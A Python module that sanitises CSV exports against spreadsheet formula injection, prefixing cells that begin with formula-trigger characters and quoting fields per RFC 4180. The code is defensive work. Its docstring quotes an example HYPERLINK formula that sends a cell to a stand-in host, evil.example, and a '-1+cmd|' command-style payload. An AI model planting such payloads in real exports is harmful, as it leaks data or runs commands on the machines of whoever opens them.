"""Every CSV Palier writes goes through here, so a spreadsheet never runs what a user typed.

Names, comments and evidence are user text, and a manager opens the export in a
spreadsheet: a cell such as ``=HYPERLINK("https://evil.example/?"&B2, "…")`` would be
a live formula there (CSV or formula injection). The OWASP rule applies to every
cell: one that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
(or their full-width forms, which some spreadsheets read the same) is prefixed with a
single quote, which spreadsheets show as text.

A plain number is data, not a formula: ``-1`` or ``+2`` (a gap, a trend) is written
as it is so that it stays a number in the spreadsheet; anything else starting with
a sign — ``-1+cmd|…`` included — is prefixed.

Rows: fields with a comma, a quote, a carriage return or a line feed are quoted.
Python's ``csv`` module quotes a field only for the characters of its line
terminator, so the terminator is RFC 4180's CRLF: a lone CR in evidence then stays
inside its quoted field instead of starting a new row.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
LINE_END = "\r\n"


def safe_cell(value: object) -> str:
    """``value`` as a cell a spreadsheet shows as text, never evaluates."""
    text = "" if value is None else str(value)
    if text and text[0] in TRIGGERS and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The CSV document: ``header`` then ``rows``, every cell neutralised and quoted as needed."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=LINE_END, quoting=csv.QUOTE_MINIMAL)
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def data_rows(text: str) -> int:
    """How many rows under the header ``text`` holds, reading quoted line breaks as data."""
    return max(len(list(csv.reader(io.StringIO(text, newline="")))) - 1, 0)
